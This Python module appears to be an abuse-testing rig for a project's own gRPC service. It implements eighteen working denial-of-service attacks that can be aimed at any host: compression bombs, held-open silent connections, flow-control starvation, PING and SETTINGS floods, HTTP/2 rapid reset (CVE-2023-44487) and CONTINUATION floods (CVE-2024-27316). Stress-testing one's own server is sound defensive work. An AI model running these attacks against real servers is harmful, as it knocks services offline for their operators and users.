"""What somebody without a key can do to the port of a cloud: attacks, each held for as long as its context lasts.

`with ATTACKS[name](host, port):` has made the attack when its body begins, and closes all that it holds at its end.
That a server hangs up on it is no error.
"""

from __future__ import annotations

import contextlib
import struct
import threading
from collections.abc import Callable, Iterator
from contextlib import AbstractContextManager
from typing import Final

import grpc
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from grpc_health.v1 import health_pb2

from isthmus.experiments.rigs.abuse.http2 import (
    CONTINUATION,
    INITIAL_WINDOW,
    PING,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    Connection,
    field,
    frame,
)
from isthmus.protocol.secure.framing import write_frame
from isthmus.protocol.secure.keys import Fingerprint
from isthmus.protocol.service import METHOD
from isthmus.protocol.session import EdgeSession

CHECK: Final = "/grpc.health.v1.Health/Check"
WATCH: Final = "/grpc.health.v1.Health/Watch"

Attack = Callable[[str, int], AbstractContextManager[object]]


@contextlib.contextmanager
def compressed_watches(host: str, port: int, count: int = 100, size: int = 4_000_000) -> Iterator[None]:
    """Watch health under long names of zeros, compressed: a thousandth of what the server holds is sent."""
    yield from _compressed(
        host, port, WATCH, health_pb2.HealthCheckRequest(service="a" * size).SerializeToString(), count
    )


@contextlib.contextmanager
def compressed_checks(host: str, port: int, count: int = 100, size: int = 4_000_000) -> Iterator[None]:
    """Ask for health under long names, compressed."""
    yield from _compressed(
        host, port, CHECK, health_pb2.HealthCheckRequest(service="a" * size).SerializeToString(), count
    )


@contextlib.contextmanager
def compressed_hellos(host: str, port: int, count: int = 100, size: int = 4_000_000) -> Iterator[None]:
    """Open sessions with long compressed frames."""
    yield from _compressed(host, port, METHOD, bytes(size), count)


def _compressed(host: str, port: int, method: str, message: bytes, count: int) -> Iterator[None]:
    options = [("grpc.max_send_message_length", -1), ("grpc.use_local_subchannel_pool", 1)]
    with grpc.insecure_channel(f"{host}:{port}", options) as channel:
        ask = channel.stream_stream(method)
        stop = threading.Event()

        def messages() -> Iterator[bytes]:
            yield message
            stop.wait()

        calls = [ask(messages(), compression=grpc.Compression.Gzip) for _ in range(count)]
        for call in calls:
            with contextlib.suppress(grpc.RpcError):
                call.initial_metadata()
        try:
            yield
        finally:
            stop.set()
            for call in calls:
                call.cancel()


@contextlib.contextmanager
def silent_connections(host: str, port: int, count: int = 256) -> Iterator[list[Connection]]:
    """Connect, and say nothing."""
    yield from _held(lambda: Connection(host, port, b"", mute=True), count)


@contextlib.contextmanager
def half_prefaces(host: str, port: int, count: int = 256) -> Iterator[list[Connection]]:
    """Connect, and stop in the middle of the preface."""
    yield from _held(lambda: Connection(host, port, PREFACE[:-1], mute=True), count)


@contextlib.contextmanager
def idle_connections(host: str, port: int, count: int = 256) -> Iterator[list[Connection]]:
    """Connect with HTTP/2, and open no stream."""
    yield from _held(lambda: Connection(host, port), count)


def _held(connect: Callable[[], Connection], count: int) -> Iterator[list[Connection]]:
    with contextlib.ExitStack() as stack:
        connections = []
        for _ in range(count):
            with contextlib.suppress(OSError):
                connections.append(stack.enter_context(connect()))
        yield connections


@contextlib.contextmanager
def silent_streams(host: str, port: int, connections: int = 2, streams: int = 256) -> Iterator[list[Connection]]:
    """Open sessions, and say nothing in them."""
    yield from _streams(host, port, connections, streams, METHOD)


@contextlib.contextmanager
def silent_checks(host: str, port: int, connections: int = 2, streams: int = 256) -> Iterator[list[Connection]]:
    """Ask for health, and never say of what."""
    yield from _streams(host, port, connections, streams, CHECK)


@contextlib.contextmanager
def large_headers(
    host: str, port: int, connections: int = 2, streams: int = 256, size: int = 7000
) -> Iterator[list[Connection]]:
    """Open sessions with header fields as long as a server takes, and say nothing in them."""
    yield from _streams(host, port, connections, streams, METHOD, field(b"x-long", b"a" * size))


@contextlib.contextmanager
def unfinished_messages(
    host: str, port: int, connections: int = 2, streams: int = 64, size: int = 1 << 20
) -> Iterator[list[Connection]]:
    """Open sessions, and send all but the last byte of a first frame."""
    body = b"\0" + size.to_bytes(4) + bytes(size - 1)
    yield from _streams(host, port, connections, streams, METHOD, b"", body)


@contextlib.contextmanager
def unfinished_checks(
    host: str, port: int, connections: int = 2, streams: int = 64, size: int = 1 << 20
) -> Iterator[list[Connection]]:
    """Ask for health, and send all but the last byte of a question."""
    body = b"\0" + size.to_bytes(4) + bytes(size - 1)
    yield from _streams(host, port, connections, streams, CHECK, b"", body)


@contextlib.contextmanager
def unread_frames(
    host: str, port: int, connections: int = 2, streams: int = 64, size: int = 1 << 23
) -> Iterator[list[Connection]]:
    """Open sessions, and send as many frames as the windows take, before the server has asked for any."""
    body = (b"\0" + (1 << 14).to_bytes(4) + bytes(1 << 14)) * (size >> 14)
    yield from _streams(host, port, connections, streams, METHOD, b"", body)


def _streams(
    host: str,
    port: int,
    connections: int,
    streams: int,
    method: str,
    extra: bytes = b"",
    body: bytes = b"",
    opening: bytes | None = None,
) -> Iterator[list[Connection]]:
    def connect() -> Connection:
        connection = Connection(host, port, opening)
        opened = [connection.request(method, extra) for _ in range(streams)]
        for stream in opened if body else ():
            connection.data(stream, body, 0.02)
        return connection

    yield from _held(connect, connections)


@contextlib.contextmanager
def starved_streams(host: str, port: int, connections: int = 2, streams: int = 256) -> Iterator[list[Connection]]:
    """Begin handshakes, and leave no window for the answers."""
    starved = PREFACE + frame(SETTINGS, 0, 0, struct.pack("!HI", INITIAL_WINDOW, 0))
    yield from _streams(host, port, connections, streams, METHOD, b"", _message(write_frame(_hello())), starved)


@contextlib.contextmanager
def starved_checks(host: str, port: int, connections: int = 2, streams: int = 256) -> Iterator[list[Connection]]:
    """Ask for health, and leave no window for the answers."""
    starved = PREFACE + frame(SETTINGS, 0, 0, struct.pack("!HI", INITIAL_WINDOW, 0))
    yield from _streams(host, port, connections, streams, CHECK, b"", _message(b""), starved)


def _hello() -> bytes:
    """The first frame of a handshake, of an edge that nobody has enrolled."""
    key = Ed25519PrivateKey.generate()
    return EdgeSession(pin=Fingerprint.of(key.public_key().public_bytes_raw()), edge_key=key).start()


def _message(raw: bytes) -> bytes:
    """A message as gRPC has it in the data of a stream, not compressed."""
    return b"\0" + len(raw).to_bytes(4) + raw


@contextlib.contextmanager
def pings(host: str, port: int, connections: int = 2, count: int = 50_000) -> Iterator[list[Connection]]:
    """Send HTTP/2 pings, and read none of the acknowledgements."""
    yield from _flood(host, port, connections, frame(PING, 0, 0, bytes(8)), count)


@contextlib.contextmanager
def settings(host: str, port: int, connections: int = 2, count: int = 50_000) -> Iterator[list[Connection]]:
    """Send settings, and read none of the acknowledgements."""
    yield from _flood(host, port, connections, frame(SETTINGS, 0, 0), count)


def _flood(host: str, port: int, connections: int, one: bytes, count: int) -> Iterator[list[Connection]]:
    def connect() -> Connection:
        connection = Connection(host, port, deaf=True)
        connection.limit(5.0)
        for _ in range(count // 1000):
            connection.send(one * 1000)
        return connection

    yield from _held(connect, connections)


@contextlib.contextmanager
def resets(host: str, port: int, connections: int = 2, count: int = 2000) -> Iterator[list[Connection]]:
    """Open streams, and reset each at once (the "rapid reset" of CVE-2023-44487)."""

    def connect() -> Connection:
        connection = Connection(host, port)
        for _ in range(count):
            stream = connection.request(METHOD)
            connection.send(frame(RST_STREAM, 0, stream, (8).to_bytes(4)))
        return connection

    yield from _held(connect, connections)


@contextlib.contextmanager
def continuations(host: str, port: int, connections: int = 2, count: int = 500) -> Iterator[list[Connection]]:
    """Open a stream whose header fields do not end (CVE-2024-27316)."""

    def connect() -> Connection:
        connection = Connection(host, port)
        stream = connection.request(METHOD, flags=0)
        part = field(b"x-more", b"a" * 16_000)
        for _ in range(count):
            connection.send(frame(CONTINUATION, 0, stream, part))
        return connection

    yield from _held(connect, connections)


ATTACKS: Final[dict[str, Attack]] = {
    attack.__name__: attack
    for attack in (
        compressed_watches,
        compressed_checks,
        compressed_hellos,
        silent_connections,
        half_prefaces,
        idle_connections,
        silent_streams,
        silent_checks,
        large_headers,
        unfinished_messages,
        unfinished_checks,
        unread_frames,
        starved_streams,
        starved_checks,
        pings,
        settings,
        resets,
        continuations,
    )
}
